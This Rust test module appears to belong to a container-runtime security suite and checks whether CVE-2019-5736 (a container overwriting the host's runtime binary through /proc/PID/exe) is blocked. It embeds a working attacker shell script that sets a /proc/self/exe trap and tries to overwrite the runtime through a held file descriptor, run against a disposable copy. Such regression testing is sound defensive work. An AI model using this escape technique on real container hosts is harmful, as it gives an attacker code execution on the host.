//! CVE-2019-5736: a container overwrites the host's runtime through /proc/PID/exe.

use crate::Context;
use crate::call::{eventually, run};
use crate::outcome::{Check, Stop, must};
use crate::sandbox::Sandbox;
use std::fs;
use std::os::unix::fs::PermissionsExt;

/// Runs in the container. The trap is executed by `exec`: its interpreter is the runtime itself, which then waits to
/// open the FIFO for its log. That gives all the time to hold its binary open for reading, let it end, and open the same
/// file again for writing.
const ATTACKER: &str = r##"
mkfifo /log
printf '#!/proc/self/exe --log=/log\n' >/trap
chmod 755 /trap
while [ ! -e /stop ]; do
    for process in /proc/[0-9]*; do
        case "$(readlink $process/exe)" in
        "" | */busybox) continue ;;
        esac
        (
            exec 3<$process/exe || exit
            echo >/held
            cat /log >/dev/null &
            while [ -e $process/exe ]; do :; done
            for i in 1 2 3 4 5 6 7 8 9 10; do
                sh -c 'echo OVERWRITTEN >/proc/self/fd/3' && echo >/won
                sleep 0.05
            done
            echo >/tried
        )
    done
done
"##;

/// The runtime under attack is a copy, so that a success costs nothing.
pub fn overwrite(context: &Context) -> Check {
    let mut sandbox = Sandbox::new(&context.runtime, "overwrite")?;
    let copy = sandbox.dir.join("host-runtime");
    fs::copy(&context.runtime, &copy)?;
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755))?;
    let original = fs::read(&copy)?;
    sandbox.runtime = copy.clone();
    sandbox.privileged(&["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_FOWNER", "CAP_SYS_ADMIN"]);
    fs::write(sandbox.rootfs("attacker"), ATTACKER)?;
    sandbox.config["process"]["args"] = serde_json::json!(["/bin/sh", "/attacker"]);
    sandbox.write()?;
    sandbox.up()?;
    let trap = sandbox.rootfs("trap");
    let armed = || fs::metadata(&trap).is_ok_and(|data| data.permissions().mode() & 0o111 != 0).then_some(());
    eventually("the trap", armed)?;

    let (mut reached, mut no_loader) = (false, false);
    for _ in 0..10 {
        let output = run(&mut sandbox.command(&["exec", &sandbox.id, "/trap"]))?;
        no_loader = output.stderr.contains("ENOENT");
        reached |= sandbox.rootfs("held").exists();
        if reached {
            break;
        }
    }
    if reached {
        eventually("the attacker's tries", || sandbox.rootfs("tried").exists().then_some(()))?;
    }
    fs::write(sandbox.rootfs("stop"), "")?;
    must(!sandbox.rootfs("won").exists(), "the container opened the host's runtime for writing")?;
    must(fs::read(&copy)? == original, "the container has overwritten the host's runtime")?;
    if !reached && no_loader {
        let reason = "the container lacks the loader of a runtime that is not static, and its short moment was not hit";
        return Err(Stop::Skipped(reason.into()));
    }
    must(reached, "the attacker never held the runtime's binary open: nothing is proven")
}
